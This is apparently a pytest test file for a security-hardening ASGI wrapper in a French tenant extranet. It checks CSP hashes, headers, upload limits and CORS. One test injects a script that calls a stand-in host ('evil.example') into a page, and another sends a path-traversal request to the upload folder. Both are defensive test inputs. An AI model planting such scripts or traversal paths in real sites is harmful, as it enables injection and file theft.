"""The ASGI wrapper: security headers on every response, Reflex's public upload folder closed."""

import base64
import gzip
import hashlib
import runpy
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from reflex.config import get_config
from starlette.applications import Starlette
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route
from starlette.testclient import TestClient

from extranet_app.api.hardening import NON_PAGE_POLICY, harden, upload_body_limit
from extranet_app.settings import PROJECT_ROOT, get_settings


def _client() -> TestClient:
    async def anything(request):
        return PlainTextResponse("contenu")

    inner = Starlette(routes=[Route("/{path:path}", anything, methods=["GET", "POST"])])
    return TestClient(harden(inner))


def test_every_response_carries_the_security_headers():
    response = _client().get("/connexion")
    assert response.text == "contenu"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["content-security-policy"] == NON_PAGE_POLICY
    assert "frame-ancestors 'none'" in NON_PAGE_POLICY and "default-src 'none'" in NON_PAGE_POLICY
    assert response.headers["referrer-policy"] == "strict-origin-when-cross-origin"


def test_public_upload_folder_cannot_be_read():
    client = _client()
    assert client.get("/_upload/bail.pdf").status_code == 404
    assert client.head("/_upload/x/../bail.pdf").status_code == 404
    assert client.get("/_upload/bail.pdf").text == "Introuvable."


@pytest.fixture
def small_upload_limit(monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    """Files of 1 Ko at most: the request limit becomes ten of them plus the envelope."""
    monkeypatch.setenv("UPLOAD_MAX_BYTES", "1024")
    get_settings.cache_clear()
    yield upload_body_limit()
    get_settings.cache_clear()


def test_an_upload_over_the_body_limit_is_refused_before_it_is_read(small_upload_limit):
    response = _client().post("/_upload", content=b"x" * (small_upload_limit + 1))
    assert response.status_code == 413
    assert response.text == "Envoi trop volumineux."
    # Only the announced length counts: the wrapper answers before reading a byte.
    announced = _client().post(
        "/_upload", content=b"x", headers={"content-length": str(small_upload_limit + 1)}
    )
    assert announced.status_code == 413


def test_an_upload_without_a_content_length_is_refused():
    response = _client().post("/_upload", content=iter([b"%PDF-1.4 ", b"morceaux"]))
    assert response.status_code == 411
    assert response.text == "Taille de l'envoi manquante."


def test_an_upload_within_the_limit_reaches_the_app(small_upload_limit):
    response = _client().post("/_upload", content=b"x" * small_upload_limit)
    assert response.status_code == 200 and response.text == "contenu"
    assert response.headers["x-content-type-options"] == "nosniff"


# --- Content-Security-Policy of the pages, caching, CORS ---------------------------------------

PAGE = (
    b"<!DOCTYPE html><html><head>"
    b'<script src="/assets/entry.client.js" type="module"></script>'
    b'<script>window.__reactRouterContext = {"basename": "/"};</script>'
    b'<script type="module" async="">import("/assets/root.js");</script>'
    b'</head><body><div id="root"></div></body></html>'
)


def _sha256_source(script: bytes) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script).digest()).decode() + "'"


def _directives(policy: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in policy.split("; ")}


def _page_client(body: bytes, headers: dict[str, str] | None = None) -> TestClient:
    async def page(request):
        return Response(body, media_type="text/html; charset=utf-8", headers=headers)

    async def private(request):
        return JSONResponse({"solde": "1 234,56 €"})

    async def news_image(request):
        return Response(b"\x89PNG", media_type="image/png", headers={"Cache-Control": "private"})

    inner = Starlette(
        routes=[
            Route("/api/actualites/image", news_image),
            Route("/api/{path:path}", private),
            Route("/{path:path}", page),
        ]
    )
    return TestClient(harden(inner))


def test_a_page_allows_exactly_its_own_inline_scripts_and_the_backend_origin():
    response = _page_client(PAGE).get("/locataire/quittances")
    assert response.content == PAGE
    policy = _directives(response.headers["content-security-policy"])
    inline = [
        b'window.__reactRouterContext = {"basename": "/"};',
        b'import("/assets/root.js");',
    ]
    hashes = [source for source in policy["script-src"] if source.startswith("'sha256-")]
    assert hashes == [_sha256_source(script) for script in inline]
    assert "'unsafe-inline'" not in policy["script-src"]
    backend = urlsplit(get_config().api_url).netloc
    assert f"ws://{backend}" in policy["connect-src"] and "'self'" in policy["connect-src"]
    assert f"http://{backend}" in policy["form-action"]
    assert policy["img-src"][:3] == ["'self'", "data:", "blob:"]
    assert policy["style-src"] == ["'self'", "'unsafe-inline'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
    assert response.headers["cache-control"] == "no-store"


def test_behind_tls_the_page_talks_to_the_backend_over_wss_only():
    async def page(request):
        return Response(PAGE, media_type="text/html")

    client = TestClient(
        harden(Starlette(routes=[Route("/", page)]), backend_url=lambda: "https://extranet.fr/")
    )
    policy = _directives(client.get("/").headers["content-security-policy"])
    assert policy["connect-src"] == ["'self'", "https://extranet.fr", "wss://extranet.fr"]
    assert "ws://extranet.fr" not in policy["connect-src"]


def test_a_script_injected_into_a_page_is_not_among_the_allowed_hashes():
    injected = PAGE.replace(b"</body>", b"<script>fetch('//evil.example')</script></body>")
    clean = _page_client(PAGE).get("/connexion").headers["content-security-policy"]
    evil_hash = _sha256_source(b"fetch('//evil.example')")
    assert evil_hash not in clean
    # Hashes come from the page actually sent: this is the point of computing them per page.
    assert evil_hash in _page_client(injected).get("/connexion").headers["content-security-policy"]


def test_a_gzipped_page_is_hashed_from_its_decompressed_html():
    compressed = gzip.compress(PAGE)
    response = _page_client(compressed, {"Content-Encoding": "gzip"}).get("/connexion")
    policy = response.headers["content-security-policy"]
    assert _sha256_source(b'import("/assets/root.js");') in policy
    # The body goes out untouched: still gzip on the wire (the test client decodes it).
    assert response.headers["content-encoding"] == "gzip" and response.content == PAGE


def test_a_page_that_cannot_be_read_falls_back_to_inline_scripts_rather_than_breaking():
    response = _page_client(b"\x00\x01", {"Content-Encoding": "br"}).get("/connexion")
    assert (
        "'unsafe-inline'" in _directives(response.headers["content-security-policy"])["script-src"]
    )


def test_private_api_answers_are_never_stored_and_a_route_keeps_its_own_cache_choice():
    client = _page_client(PAGE)
    answer = client.get("/api/documents/abc")
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["content-security-policy"] == NON_PAGE_POLICY
    assert client.get("/api/actualites/image").headers["cache-control"] == "private"


def test_refusals_are_not_stored_either():
    response = _client().get("/_upload/bail.pdf")
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["content-security-policy"] == NON_PAGE_POLICY


def test_a_head_request_on_a_page_gets_the_headers_without_a_body():
    response = _page_client(PAGE).head("/connexion")
    assert response.status_code == 200 and response.content == b""
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


def _reflex_config(monkeypatch: pytest.MonkeyPatch, **environment: str):
    """rxconfig.py as Reflex reads it, under `environment`."""
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    get_settings.cache_clear()
    try:
        return runpy.run_path(str(PROJECT_ROOT / "rxconfig.py"))["config"]
    finally:
        get_settings.cache_clear()


def test_in_production_cors_allows_only_the_public_origin(monkeypatch):
    config = _reflex_config(
        monkeypatch,
        EXTRANET_ENV="production",
        PUBLIC_URL="https://extranet.agence-demo.fr/",
        SECRET_KEY="a-real-secret-for-this-test",
        SMTP_HOST="smtp.agence-demo.fr",
    )
    assert list(config.cors_allowed_origins) == ["https://extranet.agence-demo.fr"]


def test_outside_production_any_origin_may_connect(monkeypatch):
    config = _reflex_config(monkeypatch, EXTRANET_ENV="development")
    assert list(config.cors_allowed_origins) == ["*"]
